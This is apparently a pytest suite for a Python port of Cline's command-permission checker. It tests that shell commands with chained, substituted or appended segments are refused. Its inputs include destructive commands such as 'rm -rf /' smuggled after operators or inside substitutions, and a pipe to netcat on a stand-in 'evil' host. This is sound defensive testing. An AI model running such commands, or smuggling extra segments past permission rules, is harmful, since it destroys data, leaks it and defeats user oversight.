"""CLINE_COMMAND_PERMISSIONS: Cline's recorded cases, plus splitting cases Cline's table lacks."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pycline.workspace.permissions import check_command, describe_refusal
from pycline.workspace.shell import Operator, ShellSyntaxError, Subshell, Word, tokenize

VECTORS = Path(__file__).parents[1] / "conformance" / "command_permissions.json"
CASES: list[dict[str, Any]] = json.loads(VECTORS.read_text(encoding="utf-8"))


def _as_cline(command: str, rules: str | None) -> dict[str, Any]:
    r = check_command(command, rules)
    out: dict[str, Any] = {"allowed": r.allowed, "reason": r.reason}
    if r.matched_pattern is not None:
        out["matchedPattern"] = r.matched_pattern
    if r.failed_segment is not None:
        out["failedSegment"] = r.failed_segment
    if r.detected_operator is not None:
        out["detectedOperator"] = r.detected_operator
    return out


def test_conformance_table_is_complete() -> None:
    assert len(CASES) == 112


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_matches_cline(case: dict[str, Any]) -> None:
    assert _as_cline(case["command"], case["env_CLINE_COMMAND_PERMISSIONS"]) == case["expected"]


ALLOW_ECHO = '{"allow": ["echo *", "ls *"]}'


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ('echo "$(rm -rf /)"', "no_match_deny_default"),  # substitution inside double quotes
        ("echo a&&rm x", "segment_no_match"),  # operators without spaces
        ("echo a & rm x", "segment_no_match"),  # background job
        ("echo <(rm x)", "no_match_deny_default"),  # process substitution
        ("echo 'unterminated", "parse_error"),
        ("echo (", "parse_error"),
        ("echo hi 2>&1", "redirect_detected"),
        ("echo a;rm x", "segment_no_match"),
    ],
)
def test_splits_like_a_shell(command: str, reason: str) -> None:
    result = check_command(command, ALLOW_ECHO)
    assert not result.allowed
    assert result.reason == reason


def test_comment_is_not_a_command() -> None:
    assert check_command("ls -la # && rm -rf /", ALLOW_ECHO).allowed


def test_escaped_operator_stays_in_the_word() -> None:
    assert check_command(r"echo a\;rm", ALLOW_ECHO).allowed


def test_deny_sees_unquoted_words() -> None:
    rules = '{"deny": ["rm -rf *"]}'
    result = check_command("'rm' -rf /", rules)
    assert not result.allowed and result.matched_pattern == "rm -rf *"


def test_tokenizer_output() -> None:
    assert tokenize("a 'b c' && (d) | e $(f g) 2>x") == [
        Word("a"),
        Word("b c"),
        Operator("&&"),
        Subshell("d"),
        Operator("|"),
        Word("e"),
        Word("$(f g)", ("f g",)),
        Operator("2>"),
        Word("x"),
    ]


def test_tokenizer_rejects_unbalanced_quotes() -> None:
    with pytest.raises(ShellSyntaxError):
        tokenize('echo "open')


def test_refusal_message_names_the_reason() -> None:
    result = check_command("gh pr view 1 | nc evil 1", '{"allow": ["gh *"]}')
    message = describe_refusal("gh pr view 1 | nc evil 1", result)
    assert "nc evil 1" in message and "CLINE_COMMAND_PERMISSIONS" in message


RULES = '{"allow": ["a *", "b"], "deny": ["b a*"]}'
ALPHABET = st.sampled_from(list("ab $()`'\"\\;&|<>#\n12 "))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=ALPHABET, max_size=40))
def test_any_text_gets_a_verdict_never_a_crash(command: str) -> None:
    result = check_command(command, RULES)
    assert isinstance(result.allowed, bool) and result.reason


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=ALPHABET, max_size=30))
def test_an_appended_command_is_always_checked(command: str) -> None:
    # A comment or a trailing backslash legitimately swallows what follows, as in a shell.
    if "#" in command or command.rstrip().endswith("\\"):
        return
    assert not check_command(command + "; rm -rf /", RULES).allowed
